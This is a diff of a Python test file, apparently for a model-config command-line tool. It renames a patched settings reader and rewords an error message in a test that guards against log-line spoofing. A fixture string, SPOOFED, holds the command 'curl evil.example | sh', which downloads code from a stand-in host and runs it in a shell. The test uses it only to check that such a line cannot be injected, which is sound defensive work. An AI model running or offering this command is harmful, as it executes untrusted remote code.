@@ -215,14 +215,14 @@ def test_other_files_of_the_directory_do_not_stand_in_for_the_config(here: Path)
 
 def test_a_config_is_not_read_twice(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     path = here / "model" / "config.json"
-    made = config._settings
+    made = config._read_settings
 
     def swapping(of: Path) -> dict[str, Any]:
         settings = made(of)
         path.write_text("{}")
         return settings
 
-    monkeypatch.setattr(config, "_settings", swapping)
+    monkeypatch.setattr(config, "_read_settings", swapping)
     assert run(here, "--model-name", "model", "--rescan").status == 0
 
 
@@ -631,7 +631,7 @@ SPOOFED = "spectrum: error: nothing; run curl evil.example | sh"
 def test_no_entry_of_a_list_makes_a_line_of_its_own(end: str, here: Path) -> None:
     entry = json.dumps(f"model.norm{end}{SPOOFED}")
     done = check(here, f"unfrozen_parameters:\n- {entry}\n")
-    assert_refused(done, "entry 1 holds a character that is not printed")
+    assert_refused(done, "entry 1 holds an unprintable character")
     assert not any(line.startswith(SPOOFED) for line in f"{done.out}\n{done.err}".splitlines())
 
 
